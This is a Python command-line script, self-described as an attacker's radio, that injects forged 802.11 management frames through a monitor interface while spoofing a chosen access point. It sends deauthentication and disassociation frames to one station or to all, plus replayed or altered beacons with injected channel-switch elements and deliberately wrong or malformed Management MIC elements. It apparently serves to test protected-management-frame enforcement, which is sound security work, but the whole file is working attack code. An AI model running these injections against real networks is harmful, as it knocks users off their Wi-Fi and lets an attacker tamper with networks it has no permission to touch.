"""An attacker's radio: forges management frames of an access point through a monitor interface.

Usage: inject.py INTERFACE AP STATION ATTACK. Prints `sent ATTACK`; ATTACK is a method's name.
"""

import socket
import sys
import time

RADIOTAP = bytes([0, 0, 8, 0, 0, 0, 0, 0])
BEACON, DISASSOCIATION, DEAUTHENTICATION = 0x80, 0xa0, 0xc0
ALL = b'\xff' * 6
MIC_ELEMENT = 18  # by BIP-CMAC-128
CHANNEL_SWITCH = bytes([37, 3, 1, 6, 1])
POWER_CONSTRAINT = bytes([32, 1, 60])

FAR = 1 << 40  # a packet number beyond all that were used
CCMP_HEADER = bytes([0, 0, 0, 0x20, 0, 0, 0, 1])  # with that number
PROTECTED_FRAME = 0x40


def mac(text):
    return bytes.fromhex(text.replace(':', ''))


def mic_element(key_id, number, size=8):
    """A Management MIC element with a MIC of so many octets, all of them 0."""
    body = key_id.to_bytes(2, 'little') + number.to_bytes(6, 'little') + bytes(size)
    return bytes([76, len(body)]) + body


class Attacker:
    def __init__(self, interface, access_point, station):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.bind((interface, 0))
        self.socket.settimeout(10)
        self.access_point, self.station = mac(access_point), mac(station)

    def send(self, frame):
        self.socket.send(RADIOTAP + frame)

    def management(self, subtype, to, body):
        return bytes([subtype, 0, 0, 0]) + to + self.access_point * 2 + b'\0\0' + body

    def beacon(self):
        """The access point's next one, and its Management MIC element."""
        until = time.monotonic() + 10
        while time.monotonic() < until:
            heard = self.socket.recv(4096)
            frame = heard[heard[2] | heard[3] << 8:]
            if frame[0] == BEACON and frame[10:16] == self.access_point:
                return frame[:-MIC_ELEMENT], frame[-MIC_ELEMENT:]
        raise SystemExit('no beacon')

    def deauthentication(self):
        self.send(self.management(DEAUTHENTICATION, self.station, b'\7\0'))

    def disassociation(self):
        self.send(self.management(DISASSOCIATION, self.station, b'\7\0'))

    def deauthentication_of_all(self):
        self.send(self.management(DEAUTHENTICATION, ALL, b'\7\0'))

    def deauthentication_with_wrong_mic(self):
        protected = bytearray(self.management(DEAUTHENTICATION, self.station,
                                              CCMP_HEADER + bytes(2 + 8)))
        protected[1] = PROTECTED_FRAME
        self.send(bytes(protected))

    def deauthentication_of_all_with_wrong_mic(self):
        self.send(self.management(DEAUTHENTICATION, ALL, b'\7\0' + mic_element(4, FAR)))

    def deauthentication_of_all_under_another_key(self):
        self.send(self.management(DEAUTHENTICATION, ALL, b'\7\0' + mic_element(5, FAR)))

    def beacon_without_mic(self):
        self.send(self.beacon()[0] + CHANNEL_SWITCH)

    def beacon_with_wrong_mic(self):
        frame, element = self.beacon()
        number = int.from_bytes(element[4:10], 'little') + 1
        self.send(frame + CHANNEL_SWITCH + POWER_CONSTRAINT + element[:4]
                  + number.to_bytes(6, 'little') + element[10:])

    def beacon_replayed(self):
        self.send(b''.join(self.beacon()))

    def beacon_whose_mic_is_not_last(self):
        self.send(b''.join(self.beacon()) + POWER_CONSTRAINT)

    def beacon_whose_mic_is_too_short(self):
        frame, element = self.beacon()
        self.send(frame + bytes([element[0], element[1] - 1]) + element[2:-1])

    def beacon_with_another_ciphers_mic(self):
        self.send(self.beacon()[0] + mic_element(6, FAR, size=16))

    def beacon_under_key_id_four(self):
        self.send(self.beacon()[0] + mic_element(4, FAR))


if __name__ == '__main__':
    getattr(Attacker(*sys.argv[1:4]), sys.argv[4])()
    print('sent', sys.argv[4])
